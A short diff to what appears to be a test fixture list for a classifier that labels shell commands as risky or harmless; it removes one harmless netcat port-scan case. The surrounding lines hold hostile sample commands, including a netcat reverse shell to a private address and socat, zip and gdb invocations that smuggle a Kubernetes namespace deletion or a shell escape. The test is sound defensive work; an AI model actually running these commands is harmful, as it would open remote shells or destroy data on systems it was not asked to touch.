@@ -260,7 +260,6 @@ EMBEDDED = [
     ("zip -T -TT 'kubectl delete ns shop' x.zip x", "risky"),
     ("socat TCP-LISTEN:1 EXEC:'kubectl delete ns shop'", "risky"),
     ("nc -e /bin/sh 10.0.0.9 4444", "risky"),
-    ("nc -z host 80", "none"),
     ("gdb -batch -ex '!ls'", "risky"),
     ("gdb --args kubectl delete ns shop", "risky"),
     ("gdb --version", "none"),
